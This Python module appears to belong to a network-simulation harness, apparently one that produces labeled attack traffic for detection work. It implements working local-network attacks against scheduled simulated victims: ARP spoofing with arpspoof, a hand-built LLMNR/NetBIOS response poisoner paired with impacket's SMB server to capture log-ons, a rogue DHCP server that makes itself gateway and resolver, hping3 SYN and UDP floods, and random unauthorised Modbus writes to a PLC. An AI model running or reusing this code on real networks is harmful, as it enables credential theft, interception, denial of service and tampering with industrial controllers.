"""Attacks inside the local network: ARP, name and DHCP spoofing, floods, writes to the controller."""

import socket
import sys
import threading
import time

from . import life
from .attacks import R, VENV_BIN, rng


def arp_spoof(act, victim):
    """dsniff's arpspoof between a victim and the gateway, forwarding on."""
    s = act.world.site
    v = s.by_name[victim]
    act.sh("sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.eth0.send_redirects=0")
    act.world.at(act.now() + 4, v, life.browse, [v.habits[0][0]], 7)
    act.world.at(act.now() + 9, v, life.browse, [v.habits[1][0]], 8)
    p = act.start("arpspoof", "-i", "eth0", "-t", v.ip, "-r", s.gw.ip)
    time.sleep(16)
    act.end(p)
    act.sh("sysctl", "-qw", "net.ipv4.ip_forward=0")


def name_poison(act, hours):
    """Answers every LLMNR and NetBIOS question with its own address (own script) and takes the
    log-ons that follow with impacket's SMB server."""
    s, me, end = act.world.site, socket.inet_aton(act.device.ip), act.now() + hours * 3600
    stop = threading.Event()
    socks_ = []
    for port, group in ((5355, "224.0.0.252"), (137, None)):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        u.bind(("", port))
        if group:
            u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + me)
        u.settimeout(.3)
        socks_.append((u, port))

    def answer(u, port):
        while not stop.is_set():
            try:
                q, peer = u.recvfrom(1500)
            except OSError:
                continue
            if len(q) < 13 or q[2] & 0x80 or peer[0] == act.device.ip:
                continue
            n = q.index(b"\0", 12) + 1
            if port == 5355:
                a = q[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + q[12:n] + b"\0\1\0\1" + q[12:n] + b"\0\1\0\1\0\0\0\x1e\0\4" + me
            elif q[2] & 0x78:
                continue
            else:
                a = q[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + q[12:n] + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + me
            u.sendto(a, peer)

    # These threads inherit this thread's namespace and do not count as running activities.
    for u, port in socks_:
        threading.Thread(target=answer, args=(u, port), daemon=True).start()
    server = act.start(sys.executable, f"{VENV_BIN}/smbserver.py", "-smb2support", "SHARE", R)
    time.sleep(2)
    r = rng(act)
    victims = [d for d in s.workstations if d.system == "windows" and d.name != act.device.name]
    t = act.now()
    for _ in range(10):
        t += r.uniform(.04, .16) * hours * 3600
        if t < end:
            act.world.at(t, r.choice(victims), mistyped, r.choice(["fileserv", "intrnet", "wpad", "printsrv", "srv-flies"]), case=act.case + ":victims")
    act.vsleep(max(end - act.now(), 60))
    stop.set()
    act.end(server)


def mistyped(act, name):
    """A person mistypes a server's name; whoever answers gets a log-on attempt."""
    s, d = act.world.site, act.device
    life.lookup(act, f"{name}.{s.domain}")
    found = life.query(act, "llmnr", name, .4) or life.query(act, "nbns", name, .4)
    if found:
        act.sh("smbclient", f"//{found[0]}/SHARE", "-U", f"{s.workgroup}\\{d.user}%{s.passwords[d.user]}", "--use-kerberos=off", "-c", "ls", timeout=10)
    return {"name": name, "answered_by": found[:2]}


def rogue_dhcp(act, victims, hours):
    """A foreign box takes an address and then offers leases with itself as router and resolver."""
    s, d = act.world.site, act.device
    act.sh("ip", "link", "set", "eth0", "up")
    act.sh("ip", "addr", "replace", f"{d.ip}/24", "brd", "+", "dev", "eth0")
    act.sh("ip", "route", "replace", "default", "via", s.gw.ip)
    p = act.start("dnsmasq", "-k", "-C", "/dev/null", "--user=root", "--bind-dynamic", "--interface=eth0", "--except-interface=lo", "--no-hosts", "--no-resolv", f"--server={s.gw.ip}",
                  f"--dhcp-range={s.prefix}.2,{s.prefix}.253,255.255.255.0,1h", f"--dhcp-option=3,{d.ip}", f"--dhcp-option=6,{d.ip}", "--no-ping",
                  f"--dhcp-leasefile={R}/rogue-leases", "-x", f"{R}/rogue.pid", *[f"--dhcp-host={v.mac},{v.ip}" for v in s.devices])
    time.sleep(.5)
    r = rng(act)
    for i, v in enumerate(victims):
        act.world.at(act.now() + (i + .5) * hours * 3600 / len(victims), s.by_name[v], life.boot)
    act.vsleep(hours * 3600)
    act.end(p)
    return {"victims": victims, "lease_hours": r.choice([1])}


def flood(act, kind, target, packets):
    s = act.world.site
    ip = s.by_name[target].ip
    n = str(min(packets, 6000))
    if kind == "syn":
        act.sh("hping3", "-q", "-n", "-S", "-p", "80", "-c", n, "-i", "u250", ip, timeout=40)
    else:
        act.sh("hping3", "-q", "-n", "-2", "-p", str(rng(act).choice([53, 123, 9999])), "-d", "400", "-c", n, "-i", "u250", ip, timeout=40)
    return n


def modbus_writes(act, n):
    """A machine that is not the panel maps the controller and writes to it."""
    from pymodbus.client import ModbusTcpClient
    r = rng(act)
    c = ModbusTcpClient(act.world.site.by_name["plc"].ip, port=502, timeout=3)
    c.connect()
    for unit in range(1, 6):
        c.read_holding_registers(0, count=10, slave=unit)
    for _ in range(min(n, 200)):
        if r.random() < .5:
            c.write_register(r.randint(0, 60), r.randint(0, 1000))
        else:
            c.write_coils(r.randint(0, 16), [r.random() < .5 for _ in range(4)])
        if r.random() < .15:
            c.close()
            act.vsleep(r.uniform(5, 60))
            c.connect()
    c.close()
    return n
